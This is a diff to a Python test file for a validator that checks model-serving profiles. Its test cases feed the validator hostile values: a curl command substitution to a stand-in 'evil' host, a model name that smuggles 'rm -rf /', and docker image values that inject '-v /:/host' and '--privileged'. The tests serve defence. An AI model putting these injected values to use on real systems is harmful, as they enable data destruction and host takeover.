@@ -111,6 +111,12 @@ def test_the_environment_goes_through_the_recipe_boundary(tmp_path):
         ("MODEL=$(curl -s http://evil/model)\nSERVE_ARGS=(--max-model-len 8192)\n", "command substitution"),
         ("MODEL=$1\nSERVE_ARGS=(--max-model-len 8192)\n", r"uses \$1, which the text never sets"),
         ("MODEL='Qwen/Qwen3-8B; rm -rf /'\nSERVE_ARGS=(--max-model-len 8192)\n", "neither a Hugging Face repository"),
+        # an image that is no reference never becomes docker's options
+        (
+            "IMAGE='-v /:/host vllm/vllm-openai:v0.11.2'\nMODEL=Qwen/Qwen3-8B\nSERVE_ARGS=(--max-model-len 8)\n",
+            "no image",
+        ),
+        ("IMAGE=--privileged\nMODEL=Qwen/Qwen3-8B\nSERVE_ARGS=(--max-model-len 8192)\n", "IMAGE holds '--privileged'"),
         # a script that sets a model and runs other programs is no profile
         (
             "MODEL=Qwen/Qwen3-8B\nSERVE_ARGS=(--max-model-len 8192)\nrsync -a models/ spark2:models/\n",
